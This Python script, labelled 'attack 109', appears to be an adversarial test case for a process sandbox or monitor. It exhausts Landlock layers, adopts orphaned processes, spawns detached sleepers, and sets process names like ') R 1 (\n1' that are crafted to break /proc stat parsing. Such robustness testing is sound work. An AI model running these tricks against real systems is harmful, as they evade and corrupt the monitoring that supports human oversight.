# attacks: 109
# what: adds walls of its own until no more can be added, adopts orphans, takes odd names
import ctypes
import os
import struct
import time

from target import LIBC, call

attributes = ctypes.create_string_buffer(struct.pack("=Q", 1 << 2), 8)
layers = 0
try:
    for _ in range(30):
        ruleset = call(444, 444, ctypes.byref(attributes), 8, 0)
        call(446, 446, ruleset, 0)
        os.close(ruleset)
        layers += 1
except OSError as error:
    print("held", error.strerror, layers)
LIBC.prctl(36, 1, 0, 0, 0)  # orphans come to this process
LIBC.prctl(15, ctypes.c_char_p(b") R 1 (\n1"), 0, 0, 0)
for _ in range(3):
    if os.fork() == 0:
        LIBC.prctl(15, ctypes.c_char_p(b"x) Z 1 1"), 0, 0, 0)
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
        os._exit(0)
time.sleep(0.2)
print("done", flush=True)
os._exit(0)
